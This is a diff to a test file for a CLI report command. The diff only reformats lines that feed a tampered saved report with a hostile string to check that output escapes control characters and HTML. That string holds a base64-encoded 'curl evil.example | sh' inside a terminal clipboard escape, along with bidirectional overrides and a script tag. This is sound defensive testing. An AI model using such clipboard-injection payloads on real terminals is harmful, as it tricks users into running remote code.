@@ -12,7 +12,8 @@ import { ROOT, runCli } from '../support/run-cli.js';
 
 const OFFICE_465 = join(ROOT, 'test', 'fixtures', 'e2e', 'office365-465.yaml');
 const env = { TACTIUM_CLIENT_SECRET: 'tampered-report-secret-123' };
-const HOSTILE = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007 NUL\u0000 BEL\u0007 \u202eevil\u202c \u2066iso\u2069 \u061c new\nline\r\n| pipe | <b>bold</b><script>x()</script>';
+const HOSTILE =
+  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007 NUL\u0000 BEL\u0007 \u202eevil\u202c \u2066iso\u2069 \u061c new\nline\r\n| pipe | <b>bold</b><script>x()</script>';
 /** What must never be in a sheet or a message: C0 (but newline), DEL, C1, the bidirectional controls. */
 const FORBIDDEN = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
 
@@ -69,7 +70,13 @@ describe('report --from a tampered saved report', () => {
       expect(result.stdout).not.toMatch(FORBIDDEN);
       // Tags stay text: escaped in HTML and in Markdown's running text; raw only inside Markdown code spans
       // and fences, which show them as they are.
-      const outsideCode = format === 'html' ? result.stdout : result.stdout.replace(/\\[\\`*_[\]<>|#~&]/g, '').replace(/^ *(`{3,})[^\n]*\n[\s\S]*?^ *\1$/gm, '').replace(/(?<!`)(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, '');
+      const outsideCode =
+        format === 'html'
+          ? result.stdout
+          : result.stdout
+              .replace(/\\[\\`*_[\]<>|#~&]/g, '')
+              .replace(/^ *(`{3,})[^\n]*\n[\s\S]*?^ *\1$/gm, '')
+              .replace(/(?<!`)(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, '');
       expect(outsideCode).not.toMatch(/<script|<b>/);
       // The text is still there, made visible: the reader sees that the file carried an escape.
       expect(result.stdout).toContain('\\x1b]52;c;');
@@ -84,10 +91,22 @@ describe('report --from a tampered saved report', () => {
   }
 
   const structural: Array<[string, (report: Json) => void, RegExp]> = [
-    ['a check id that is not area.subject', (report) => (report.accounts[0]!.checks[0]!.id = `smtp.tls${HOSTILE}`), /accounts\.0\.checks\.0\.id, expected a check id like smtp\.tls/],
+    [
+      'a check id that is not area.subject',
+      (report) => (report.accounts[0]!.checks[0]!.id = `smtp.tls${HOSTILE}`),
+      /accounts\.0\.checks\.0\.id, expected a check id like smtp\.tls/,
+    ],
     ['a code that is not SCREAMING_SNAKE', (report) => (failing(report).code = 'SMTP_PORT\u202e'), /\.code, expected a code in SCREAMING_SNAKE/],
-    ['a start that is not an ISO 8601 date', (report) => (report.startedAt = `2026-11-27T10:00:00.000Z${HOSTILE}`), /at startedAt, expected an ISO 8601 date and time/],
-    ['a verification time that is not a date', (report) => ((report.verifiedFrom as Record<string, unknown>).at = 'yesterday'), /at verifiedFrom\.at, expected an ISO 8601 date and time/],
+    [
+      'a start that is not an ISO 8601 date',
+      (report) => (report.startedAt = `2026-11-27T10:00:00.000Z${HOSTILE}`),
+      /at startedAt, expected an ISO 8601 date and time/,
+    ],
+    [
+      'a verification time that is not a date',
+      (report) => ((report.verifiedFrom as Record<string, unknown>).at = 'yesterday'),
+      /at verifiedFrom\.at, expected an ISO 8601 date and time/,
+    ],
     ['a status outside the enumeration', (report) => (report.accounts[0]!.checks[0]!.status = 'pass\u0007'), /accounts\.0\.checks\.0\.status/],
     ['an unknown key made of escapes', (report) => (report[`x${HOSTILE}`] = 1), /\(root\)|Unrecognized key/],
   ];
